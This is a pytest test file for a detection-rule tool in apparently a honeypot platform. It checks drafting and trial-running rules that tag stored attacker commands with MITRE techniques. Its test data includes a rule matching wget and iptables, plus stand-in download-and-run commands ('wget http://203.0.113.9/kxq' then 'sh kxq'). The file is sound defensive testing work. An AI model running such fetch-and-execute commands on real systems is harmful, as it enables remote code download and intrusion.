"""``rules new`` and ``rules test`` over a stored history, and the key that begins a rule in the console."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from decnet.config import load_settings
from decnet_tui.app import DecnetApp
from decnet_tui.cli.main import app
from decnet_tui.commands.drafting import seen_in
from decnet_tui.screens.levels import LevelsView
from tests.integration.test_console_evidence import A, app_on, repo, shows
from tests.integration.test_story_cli import asked, folder

__all__ = ["folder", "repo"]
RULE = """rule_id: X0001
rule_version: 1
name: fetched_by_wget
description: Fetches something.
applies_to: [command]
match: {field: argv0, op: in, value: [wget, iptables]}
emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.6}]
evidence_fields: [command_text]
tests: {match: ['wget http://203.0.113.9/a'], no_match: ['man wget']}
"""


def tried(folder: Path, text: str, *more: str, code: int = 0) -> Any:
    file = folder / "x.yaml"
    file.write_text(text)
    done = CliRunner().invoke(app, ["rules", "test", str(file), "--data-dir", str(folder), *more])
    assert done.exit_code == code, done.output
    return done


def test_a_rule_is_tried_over_what_is_stored_before_it_is_in_force(folder: Path) -> None:
    told = json.loads(tried(folder, RULE, "--json").stdout)
    assert (told["rule_id"], told["replaces_version"]) == ("X0001", None)
    assert told["hits"] == told["tags"] == sum(told["techniques"].values()) > 0
    assert told["techniques"].keys() == {"T1105"}
    assert sum(row["seen"] for row in told["examples"]) == told["hits"]
    assert {row["text"].split()[0] for row in told["examples"]} <= {"wget", "iptables"}
    assert all(row["session_id"] and row["line"] >= 1 for row in told["examples"])
    overlap = {row["rule_id"]: row for row in told["overlap"]}
    assert "X0001" not in overlap
    assert all(
        0 < row["share"] <= 1 and row["same_technique"] <= row["hits"] <= told["hits"]
        for row in overlap.values()
    )
    assert told["cost"]["looked_at"] >= told["hits"]
    assert told["cost"]["us_an_event"] > 0
    rows = asked(folder, "tags", "--limit", "0", "--json")
    assert "X0001" not in rows, "nothing is put in force"


def test_what_it_tells_can_be_read(folder: Path) -> None:
    lines = tried(folder, RULE).stdout.splitlines()
    assert lines[0] == "X0001 fetched_by_wget: loads, 2 own tests passed"
    assert any(line.startswith("it would tag ") for line in lines)
    assert any(line.startswith("examples (") for line in lines)
    assert any(line.startswith("cost: ") for line in lines)


def test_one_of_the_same_id_is_stood_in_for(folder: Path) -> None:
    text = RULE.replace("X0001", "R0002")
    told = json.loads(tried(folder, text, "--json").stdout)
    assert told["replaces_version"] == 1
    assert "R0002" not in {row["rule_id"] for row in told["overlap"]}


def test_examples_are_bounded_and_a_rule_that_tags_nothing_says_so(folder: Path) -> None:
    assert len(json.loads(tried(folder, RULE, "--json", "--limit", "1").stdout)["examples"]) == 1
    nothing = RULE.replace("[wget, iptables]", "[wget]").replace("argv0, op: in, value: [wget]", "command_text, pattern: 'wget http://203.0.113.9/a$'")  # fmt: skip
    assert "it would tag nothing of that" in tried(folder, nothing, "--since", "2200-01-01").stdout


@pytest.mark.parametrize(("text", "said"), [
    (RULE.replace("op: in", "op: inn"), "x.yaml:6"),
    (RULE.replace("man wget", "wget a"), "own test fails"),
])  # fmt: skip
def test_a_rule_that_does_not_load_or_fails_its_own_tests_is_not_tried(
    folder: Path, text: str, said: str
) -> None:
    assert said in tried(folder, text, code=1).stderr


def test_a_draft_of_a_stored_session_can_be_tried_at_once(folder: Path) -> None:
    file = folder / "draft.yaml"
    made = CliRunner().invoke(
        app, ["rules", "new", "--from", "ran", "--line", "2", "-o", str(file), "--data-dir", str(folder)]
    )
    assert made.exit_code == 0, made.output
    assert "line 2" in made.output
    told = json.loads(tried(folder, file.read_text(), "--json").stdout)
    assert told["hits"] >= 1
    again = CliRunner().invoke(
        app, ["rules", "new", "--from", "ran", "-o", str(file), "--data-dir", str(folder)]
    )
    assert (again.exit_code, "is there already" in again.output) == (1, True)


def test_a_draft_is_made_of_commands_without_a_database(tmp_path: Path) -> None:
    said = ["--from", "wget http://203.0.113.9/kxq", "--from", "sh kxq", "--technique", "T1059.004"]
    made = CliRunner().invoke(app, ["rules", "new", *said, "--data-dir", str(tmp_path)])
    assert made.exit_code == 0, made.output
    assert "made of line 2" in made.stdout
    for wrong in (
        ["--from", "id", "--line", "2"],
        ["--from", "id", "--technique", "T9999"],
        ["--from", "id", "--id", "a b"],
        [],
    ):
        done = CliRunner().invoke(app, ["rules", "new", *wrong, "--data-dir", str(tmp_path)])
        assert done.exit_code in (1, 2), wrong
        assert len(done.stderr.strip().splitlines()) == 1


async def test_the_key_begins_a_rule_from_the_line_under_the_cursor(repo: Any, tmp_path: Path) -> None:
    console: DecnetApp = app_on(repo)
    console.settings = load_settings(data_dir=tmp_path)
    async with console.run_test(size=(80, 24)) as pilot:
        await pilot.press("3")
        await shows(console, pilot, "203.0.113.8")
        console.open_in("actors", A)
        await pilot.press("enter")
        await shows(console, pilot, "Enter: opens the line")
        await pilot.press("enter")
        await shows(console, pilot, "session s1", "T1105")
        await pilot.press("g")
        assert isinstance(console.view, LevelsView)
        seen = seen_in(console.view)
        assert seen is not None
        assert (seen.session, seen.command) == ("s1", "c1")
        await pilot.press("N")
        await shows(console, pilot, "draft from line 1: ")
        await pilot.press("o")
        await shows(console, pilot, "R0002")
        await pilot.press("N")
        await shows(console, pilot, "draft_0002.yaml")
        path, again = sorted(tmp_path.rglob("draft_*.yaml"))
    assert again.read_text() == path.read_text(), "from the rules behind a line it is the same line"
    assert path.stat().st_mode & 0o777 == 0o600
    assert "rule_id: X0001" in path.read_text()
    assert "made of line 1" in path.read_text()
